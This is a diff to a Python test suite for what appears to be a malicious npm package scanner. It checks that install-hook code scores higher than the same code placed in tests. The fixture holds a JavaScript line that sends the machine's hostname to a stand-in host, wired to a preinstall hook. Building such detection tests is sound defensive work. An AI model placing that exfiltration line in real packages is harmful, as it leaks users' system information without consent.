@@ -49,11 +49,15 @@ def test_network_plus_harvesting_in_one_file_outweighs_each_alone(engine: Engine
 
 
 def test_same_code_weighs_more_at_install_than_in_tests(engine: Engine) -> None:
-    code = "const os = require('os');\nrequire('https').get('https://x.example.net/' + os.hostname());\n"
+    code = (
+        "const os = require('os');\n"
+        "require('https').get('https://x.example.net/' + os.hostname());\n"
+    )
     hooked = engine.analyze(npm_tarball({"p.js": code}, scripts={"preinstall": "node p.js"}))
     tested = engine.analyze(npm_tarball({"test/p.test.js": code}))
     assert hooked.score > tested.score
-    assert hooked.flagged and not tested.flagged
+    assert hooked.flagged
+    assert not tested.flagged
 
 
 def test_files_are_never_skipped_for_their_path(engine: Engine) -> None:
